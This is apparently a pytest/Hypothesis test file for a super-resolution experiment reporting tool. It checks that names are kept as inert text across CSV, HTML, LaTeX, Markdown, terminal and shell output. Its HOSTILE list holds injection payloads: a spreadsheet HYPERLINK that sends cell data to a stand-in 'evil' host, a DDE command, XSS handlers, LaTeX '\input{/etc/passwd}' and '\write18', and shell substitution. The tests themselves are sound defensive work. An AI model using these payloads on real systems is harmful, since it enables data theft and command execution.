"""Names of files, runs and classes are text wherever they are written."""

import csv
import io
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from sr_experiments.deploy.layers import Layer, Layers
from sr_experiments.reporting.environment import describe
from sr_experiments.reporting.evaluation import Evaluation, print_evaluation
from sr_experiments.reporting.image_scores import as_csv, read_scores
from sr_experiments.reporting.page_parts import command
from sr_experiments.reporting.run_folder import RunFolder
from sr_experiments.reporting.scores import METRICS, SetScore
from sr_experiments.reporting.tables.html import as_html
from sr_experiments.reporting.tables.latex import as_latex
from sr_experiments.reporting.tables.render import as_csv as table_csv
from sr_experiments.reporting.tables.render import as_markdown, print_table
from sr_experiments.reporting.tables.table import Column, Origin, Table
from sr_experiments.reporting.timing_tables import layer_table
from sr_experiments.spreadsheet import csv_text, shielded, unshielded

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=alert(1)>",
    "a\"onmouseover='alert(1)'",
    "[/red]",
    "[link=http://evil]x[/link]",
    r"\input{/etc/passwd}",
    r"\write18{touch x}",
    "a\n\\input{x}",
    "$(touch x); `touch x`",
    "{{ 7919 * 7907 }}",
]
FORMULA = re.compile(r"[=+\-@\t\r].", re.DOTALL)
ROW = dict.fromkeys(METRICS, 0.5)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(st.one_of(st.sampled_from(HOSTILE), st.text(alphabet="'=+-@\t\r\n,;\"a1.e ", max_size=6)))
def test_no_text_becomes_a_formula_and_all_of_it_comes_back(text: str) -> None:
    (cell,) = cells(csv_text([[text]])) or [""]
    assert unshielded(cell) == text
    if FORMULA.match(cell):
        float(cell)  # a number and nothing else


def test_numbers_stay_numbers() -> None:
    assert cells(csv_text([[-1.5, "-1.5", "+3", "-inf", 0]])) == ["-1.5", "-1.5", "+3", "-inf", "0"]
    assert shielded(None) is None


@pytest.mark.parametrize("name", HOSTILE)
def test_a_table_holds_the_name_as_text_in_every_format(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    columns = [Column("run", "run"), Column("psnr", name, ".2f")]
    table = Table("t", name, "about", columns, [[{"run": name, "psnr": 30.0}]])
    origin = Origin(f"report {shlex.quote(name)}", describe())
    assert not any(FORMULA.match(cell) for cell in cells(table_csv(table)))
    page = as_html(table, origin)
    assert "<img src=x" not in page
    assert '"onmouseover' not in page
    assert str(7919 * 7907) not in page  # no template works it out
    tex = as_latex(table, origin)
    body = "\n".join(line for line in tex.splitlines() if not line.startswith("%"))
    assert r"\input{" not in body
    assert r"\write18" not in body
    assert all(line.startswith("%") for line in tex.splitlines()[:2])
    assert "<img" not in as_markdown(table, origin).split("```")[0]
    print_table(table, origin, Console(width=200, force_terminal=False))
    assert name.split("\n")[0].strip()[:4] in capsys.readouterr().out


@pytest.mark.parametrize("name", HOSTILE)
def test_scores_of_a_picture_are_found_again_under_its_name(name: str, tmp_path: Path) -> None:
    sets = {"folder": {"fp32": SetScore({name: ROW})}}
    (tmp_path / "scores.csv").write_text(as_csv(name, 3, sets), encoding="utf-8", newline="")
    text = (tmp_path / "scores.csv").read_bytes().decode()
    assert not any(FORMULA.match(cell) for cell in cells(text))
    (found,) = read_scores(tmp_path)["folder"]["fp32"]
    assert found == name or "\r" in name  # reading text turns a lone carriage return into a line


@pytest.mark.parametrize("name", HOSTILE)
def test_the_terminal_prints_names_as_they_are(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    console = Console(width=200, force_terminal=False)
    evaluation = Evaluation(name, None, 3)
    evaluation.sets["folder"] = {"bicubic": SetScore({name: ROW, "b": ROW})}
    print_evaluation(evaluation, True, console)
    console.print(layer_table(name, Layers("m", [Layer(0, name, name, 1.0)])))
    printed = capsys.readouterr().out
    shown = name.split("\n")[0].strip()
    assert printed.count(shown) >= 4


@settings(max_examples=30, deadline=None, derandomize=True, database=None)
@given(st.sampled_from(HOSTILE))
def test_the_command_of_a_page_gives_a_shell_the_words_and_nothing_else(word: str) -> None:
    import tempfile

    line = word.splitlines()[0] if word.splitlines() else ""
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "overrides.yaml").write_text(f"- {line}\n- scale=3\n", encoding="utf-8")
        assert shlex.split(command(RunFolder(Path(folder)))) == [line, "scale=3"]
